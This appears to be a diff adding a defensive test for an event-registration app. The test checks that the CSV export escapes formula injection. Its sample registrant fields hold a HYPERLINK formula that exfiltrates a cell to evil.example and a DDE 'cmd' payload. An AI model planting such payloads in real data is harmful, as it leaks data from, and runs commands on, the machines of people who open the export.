@@ -169,6 +169,28 @@ def test_export_holds_only_what_each_person_consented_to(client, people):
     assert "dee@example.org" not in response.text and "ben@example.org" not in response.text
 
 
+def test_the_export_never_hands_a_formula_to_a_spreadsheet(client, cms, event):
+    """Issue 17, section 6: a registrant's own texts start a formula in the export."""
+    attack = {
+        "name": '=HYPERLINK("https://evil.example/?"&C2,"Open")',
+        "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "phone": "+41 22 000 00 00",
+    }
+    rid = register(
+        client,
+        cms,
+        email="formula@example.org",
+        consents={"public_listing": True, "share_contact": True},
+        **attack,
+    ).get_json()["id"]
+    for action in ("eligible", "select"):
+        assert act(client, rid, action).status_code == 200
+    response = client.get("/registrations/export?event=ev-1", headers=ece())
+    [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert {k: row[k] for k in attack} == {k: "'" + v for k, v in attack.items()}
+    assert row["email"] == "formula@example.org"
+
+
 def test_balance_counts_the_pool_and_the_selected(client, people):
     for name in ("ana", "ben", "cai"):
         act(client, people[name], "eligible")
